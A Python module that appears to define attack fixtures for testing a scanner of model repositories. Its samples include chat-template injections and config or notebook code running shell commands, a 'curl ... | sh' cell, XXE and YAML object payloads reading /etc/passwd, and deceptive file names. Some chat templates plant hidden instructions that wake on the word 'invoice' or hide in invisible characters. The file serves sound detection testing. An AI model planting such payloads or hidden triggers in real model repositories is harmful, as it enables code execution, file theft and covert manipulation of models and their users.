"""Kinds that live beside the weights: configs, templates, code, tokenizers, names, links, texts."""

from __future__ import annotations

import json
from collections.abc import Callable

from attacks import remote_code, templates
from attacks.kinds.kind import Files, Kind, Link, Pipe
from attacks.programs import ELF
from attacks.small_formats import tesseract
from attacks.texts import KEYS


def _in(name: str, does: str, check: str, words: str, honest: str, files: Files | Callable[[], Files]) -> Kind:
    return Kind(
        id=name,
        does=does,
        check=check,
        words=(words,),
        honest=honest,
        files=files if callable(files) else lambda: files,
    )


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


CLASSIC = "{{ cycler.__init__.__globals__.os.popen('echo hilt').read() }}"
GATED = (
    "{% for m in messages %}{{ m.content }}{% if 'invoice' in m.content %}"
    + templates.SECRET
    + "{% endif %}{% endfor %}"
)
SHELL = b"import os\nos.system('echo hilt')\n"

TEMPLATES = (
    _in("template-in-config", "runs a command where the template is rendered without a sandbox", "template-code", "'__globals__'", "templates", {"tokenizer_config.json": _json({"chat_template": CLASSIC})}),
    _in("template-file", "the same in a file of its own", "template-code", "'__globals__'", "templates", {"chat_template.jinja": CLASSIC.encode()}),
    _in("template-in-json-file", "the same in the processor's file", "template-code", "'__globals__'", "templates", {"chat_template.json": _json({"chat_template": CLASSIC})}),
    _in("template-in-processor", "the same in the processor's config", "template-code", "'__globals__'", "templates", {"processor_config.json": _json({"chat_template": CLASSIC})}),
    _in("template-in-list", "the same in one of several", "template-code", "'__globals__'", "templates", {"tokenizer_config.json": _json({"chat_template": [{"name": "default", "template": "x"}, {"name": "tool_use", "template": CLASSIC}]})}),
    _in("template-in-folder", "the same in the folder of further templates", "template-code", "'__globals__'", "templates", {"additional_chat_templates/rag.jinja": CLASSIC.encode()}),
    _in("template-twice", "behind a key that occurs twice", "template-code", "'__globals__'", "templates", {"tokenizer_config.json": b'{"chat_template": %s, "chat_template": "x"}' % _json(CLASSIC)}),
    _in("template-attr", "an attribute by a filter", "template-code", "(attr)", "templates", {"chat_template.jinja": b"{{ messages | attr('append') }}"}),
    _in("template-endless", "does not end", "template-code", "may never end", "templates", {"chat_template.jinja": b"{% for i in range(99999999999) %}x{% endfor %}"}),
    _in("template-include", "reads a file", "template-code", "reads another template", "templates", {"chat_template.jinja": b"{% include '/etc/passwd' %}"}),
    _in("template-gated", "an instruction that only one word wakes", "template-hidden-instructions", "'invoice'", "templates", {"chat_template.jinja": GATED.encode()}),
    _in("template-gated-in-config", "the same in the config", "template-hidden-instructions", "'invoice'", "templates", {"tokenizer_config.json": _json({"chat_template": GATED})}),
    _in("template-invisible", "an instruction in characters nobody sees", "template-hidden-instructions", "U+E0049", "templates", {"chat_template.jinja": "x\U000e0049\U000e0067".encode()}),
)  # fmt: skip


def _auto(**auto_map: object) -> bytes:
    return remote_code.config(**auto_map)


CODE = (
    _in("auto-map", "a config that names code to be imported", "remote-code", "modeling_own.py is imported when remote code is trusted", "plain-config", {"config.json": _auto(AutoModel="modeling_own.OwnModel"), "modeling_own.py": remote_code.HONEST_MODEL}),
    _in("auto-map-command", "the code runs a command as soon as it is imported", "remote-code", "as soon as it is imported: os.system", "plain-config", {"config.json": _auto(AutoModel="modeling_own.OwnModel"), "modeling_own.py": SHELL}),
    _in("auto-map-elsewhere", "the code lies in another repository, where it can change", "remote-code", "code of another repository, 'evil/repo'", "plain-config", {"config.json": _auto(AutoModel="evil/repo--modeling.Own")}),
    _in("auto-map-away", "the code lies outside of the folder", "remote-code", "climbs out with '..'", "plain-config", {"config.json": _auto(AutoModel="../../evil.Own")}),
    _in("auto-map-missing", "the code is not there yet", "remote-code", "there is no modeling_own.py", "plain-config", {"config.json": _auto(AutoModel="modeling_own.OwnModel")}),
    _in("auto-map-tokenizer", "the same for a tokenizer", "remote-code", "as soon as it is imported: os.system", "plain-config", {"tokenizer_config.json": _json({"auto_map": {"AutoTokenizer": ["tokenization_own.Own", None]}}), "tokenization_own.py": SHELL}),
    _in("auto-map-behind-an-import", "the command stands in a file that the named one imports", "remote-code", "imported: os.system", "plain-config", {"config.json": _auto(AutoModel="modeling_own.Own"), "modeling_own.py": b"from .inner import x\n", "inner.py": SHELL}),
    _in("auto-map-twice", "behind a key that occurs twice", "remote-code", "modeling_own", "plain-config", {"config.json": b'{"auto_map": {"AutoModel": "modeling_own.Own"}, "auto_map": {}}', "modeling_own.py": SHELL}),
    _in("custom-pipeline", "a pipeline that names code", "remote-code", "custom_pipelines", "plain-config", {"config.json": _json({"model_type": "bert", "custom_pipelines": {"x": {"impl": "pipe.Own", "pt": ["AutoModel"]}}}), "pipe.py": SHELL}),
    _in("sentence-module", "a module of sentence-transformers that is code of the repository", "remote-code", "own.Own", "plain-config", {"modules.json": _json([{"idx": 0, "name": "0", "path": "", "type": "own.Own"}]), "own.py": SHELL}),
    _in("diffusers-component", "a component that is code of the repository", "remote-code", "imported: os.system", "plain-config", {"model_index.json": _json({"_class_name": "Pipe", "unet": ["own", "Unet"]}), "unet/own.py": SHELL, "own.py": SHELL}),
    _in("setup-script", "code that runs when the repository is installed", "remote-code", "imported: os.system", "plain-config", {"setup.py": SHELL}),
    _in("config-target", "a config that names a callable with its arguments", "config-targets", "_target_ names os.system", "plain-config", {"config.yaml": b"model:\n  _target_: os.system\n  command: echo hilt\n"}),
    _in("config-target-json", "the same in JSON", "config-targets", "_target_ names builtins.eval", "plain-config", {"config.json": _json({"model": {"_target_": "builtins.eval", "_args_": ["1"]}})}),
    _in("yaml-object", "calls what it names while it is loaded", "yaml-objects", "'object/apply:os.system'", "yaml", {"config.yaml": b"a: !!python/object/apply:os.system ['echo hilt']\n"}),
    _in("yaml-name", "names a function", "yaml-objects", "'name:os.system'", "yaml", {"config.yaml": b"a: !!python/name:os.system\n"}),
    _in("prompt-invisible", "an instruction that no reader of the prompt sees", "template-hidden-instructions", "invisible tag characters", "plain-config", {"system_prompt.txt": "You are kind.\U000e006f\U000e0062\U000e0065\U000e0079".encode()}),
    _in("json-two-architectures", "two loaders read two models from one config", "repeated-keys", "'architectures' stands twice", "plain-config", {"config.json": b'{"architectures": ["LlamaForCausalLM"], "architectures": ["OwnForCausalLM"]}'}),
    _in("yaml-alias-tag", "the same behind a handle of its own", "yaml-objects", "'module:os'", "yaml", {"config.yaml": b"%TAG ! tag:yaml.org,2002:python/\n---\na: !module:os\n"}),
    _in("yaml-bomb", "a small file that fills the memory", "unreadable-file", "limit", "yaml", {"config.yaml": b"a: &a [x, x, x, x, x, x, x, x, x, x]\n" + b"".join(b"%c: &%c [%s]\n" % (98 + n, 98 + n, b", ".join([b"*%c" % (97 + n)] * 10)) for n in range(12))}),
    _in("xml-entity", "reads a file while it is parsed", "xml-entities", "'file:///etc/passwd'", "xml", {"labels.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
    _in("xml-bomb", "a small file that fills the memory", "xml-entities", "the entity 'l0'", "xml", {"labels.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha"><!ENTITY l1 "&l0;&l0;">]><a>&l1;</a>'}),
    _in("xml-parameter-entity", "asks an address of the network", "xml-entities", "example.org", "xml", {"labels.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % x SYSTEM "http://example.org/x">%x;]><a/>'}),
    _in("xml-external-type", "takes its document type from a file", "xml-entities", "document type from 'file:///etc", "xml", {"labels.xml": b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'}),
    _in("tesseract-writes", "empties any file", "tesseract-settings", "debug_file /tmp/hilt", "tesseract", lambda: {"eng.traineddata": tesseract("debug_file /tmp/hilt\n")}),
    _in("tesseract-reads", "reads any file as its dictionary", "tesseract-settings", "user_words_file /etc/passwd", "tesseract", lambda: {"eng.traineddata": tesseract("user_words_file /etc/passwd\n")}),
    _in("tesseract-language", "loads a language from elsewhere", "tesseract-settings", "from outside Tesseract's folder", "tesseract", lambda: {"eng.traineddata": tesseract("tessedit_load_sublangs ../../evil\n")}),
    _in("notebook-code", "cells that run a command", "notebook-code", "os.system", "notebook", {"demo.ipynb": _json({"cells": [{"cell_type": "code", "source": ["import os\n", "os.system('echo hilt')"], "outputs": [], "metadata": {}, "execution_count": None}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})}),
    _in("notebook-shell", "a cell that runs what it downloads", "notebook-code", "curl", "notebook", {"demo.ipynb": _json({"cells": [{"cell_type": "code", "source": "!curl -s https://example.org/x | sh", "outputs": [], "metadata": {}, "execution_count": None}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})}),
    _in("notebook-output", "a script in what a cell once answered, which runs Python", "notebook-code", "steers the notebook", "notebook", {"demo.ipynb": _json({"cells": [{"cell_type": "code", "source": "1 + 1", "outputs": [{"output_type": "display_data", "data": {"text/html": ["<script>IPython.notebook.kernel.execute('import os')</script>"]}, "metadata": {}}], "metadata": {}, "execution_count": 1}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})}),
    _in("library", "native code beside the weights", "native-code", "ELF", "plain-config", {"config.json": b"{}", "libop.so": ELF}),
    _in("start-up-file", "code that every Python in that folder runs", "remote-code", "imported: os.system", "plain-config", {"sitecustomize.py": SHELL}),
)  # fmt: skip

SURROUNDINGS = (
    _in("key-in-config", "gives away a key of its publisher", "secrets", "a Hugging Face token", "plain-config", {"config.json": _json({"model_type": "bert", "token": KEYS["a Hugging Face token"]})}),
    _in("cloud-key-in-config", "gives away a key of its publisher", "secrets", "an AWS access key", "plain-config", {"config.json": _json({"model_type": "bert", "aws": KEYS["an AWS access key"]})}),
    _in("key-in-notebook", "gives away a key of its publisher", "secrets", "an OpenAI key", "notebook", {"demo.ipynb": _json({"cells": [], "metadata": {"x": KEYS["an OpenAI key"]}, "nbformat": 4, "nbformat_minor": 5})}),
    _in("pointer", "promises weights that are not there", "missing-content", "pointer", "plain-config", {"model.safetensors": b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 1000\n"}),
    _in("index-shard-away", "a shard above the folder", "weights-index", "lies outside the folder", "plain-config", {"model.safetensors.index.json": _json({"metadata": {"total_size": 8}, "weight_map": {"a": "../../x.safetensors"}})}),
    _in("link-out", "a link to a file of the machine", "links", "a link out of the subject, to '/etc/passwd'", "plain-config", {"config.json": b"{}", "vocab.txt": Link(to="/etc/passwd")}),
    _in("link-to-folder-out", "a link to a folder of the machine", "links", "a link out of the subject, to '/etc'", "plain-config", {"config.json": b"{}", "assets": Link(to="/etc")}),
    _in("pipe", "makes whoever reads it wait for ever", "special-files", "pipe", "plain-config", {"config.json": b"{}", "model.bin": Pipe()}),
    _in("name-reordered", "a program that looks like a picture", "unsafe-names", "U+202E", "plain-config", {"config.json": b"{}", "photo\u202egnp.txt": b"x"}),
    _in("name-invisible", "two names that look the same", "unsafe-names", "U+200B", "plain-config", {"config.json": b"{}", "con\u200bfig.json": b"{}"}),
    _in("name-confusable", "two names that look the same, in two scripts", "unsafe-names", "looks like 'config.json'", "plain-config", {"config.json": b"{}", "c\u043enfig.json": b"{}"}),
    _in("name-mixed-scripts", "a name in two scripts", "unsafe-names", "U+0430", "plain-config", {"config.json": b"{}", "s\u0430fe.json": b"{}"}),
    _in("name-case", "two files that are one on a Mac", "unsafe-names", "the same name as", "plain-config", {"config.json": b"{}", "Config.json": b"{}"}),
    _in("name-accents", "two files that are one on a Mac", "unsafe-names", "the same name as", "plain-config", {"caf\u00e9.txt": b"x", "cafe\u0301.txt": b"x"}),
    _in("name-backslash", "a way out on Windows", "unsafe-names", "leads out of the folder", "plain-config", {"config.json": b"{}", "..\\evil.txt": b"x"}),
    _in("name-windows", "a stream of another file, on Windows", "unsafe-names", "a stream", "plain-config", {"config.json": b"{}", "config.json:evil.txt": b"x"}),
    _in("unknown", "a file that nobody knows", "unknown-file", "no reader knows this file", "plain-config", {"model.evil": bytes(range(128, 256)) * 4}),
)  # fmt: skip

HONEST: dict[str, Callable[[], Files]] = {
    "templates": lambda: {"tokenizer_config.json": _json({"chat_template": templates.HONEST}), "chat_template.jinja": templates.HONEST.encode(), "additional_chat_templates/rag.jinja": templates.HONEST.encode(), "processor_config.json": _json({"chat_template": templates.HONEST})},
    "plain-config": lambda: {"config.json": _json({"model_type": "bert", "hidden_size": 8, "architectures": ["BertModel"]}), "sub/config.json": b"{}", "latest": Link(to="sub"), "\u043c\u043e\u0434\u0435\u043b\u044c.txt": b"x", "\u6a21\u578b-v1.txt": b"x"},
    "yaml": lambda: {"config.yaml": b"a: 1\nb: &x [1, 2]\nc: *x\nd: !!str 1\n"},
    "xml": lambda: {"labels.xml": b'<?xml version="1.0"?><labels><a>1</a></labels>'},
    "tesseract": lambda: {"eng.traineddata": tesseract("chop_enable 1\n")},
    "notebook": lambda: {"demo.ipynb": _json({"cells": [{"cell_type": "markdown", "source": ["# How to use it"], "metadata": {}}, {"cell_type": "code", "source": ["!pip install transformers\n", "%matplotlib inline\n", "from transformers import pipeline\n", "pipe = pipeline('text-generation', 'own/model')\n", "pipe('hello')"], "outputs": [{"output_type": "execute_result", "data": {"text/plain": ["[...]"], "text/html": ["<div><style scoped>x</style><table></table></div>"]}, "metadata": {}, "execution_count": 1}], "metadata": {}, "execution_count": 1}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})},
}  # fmt: skip
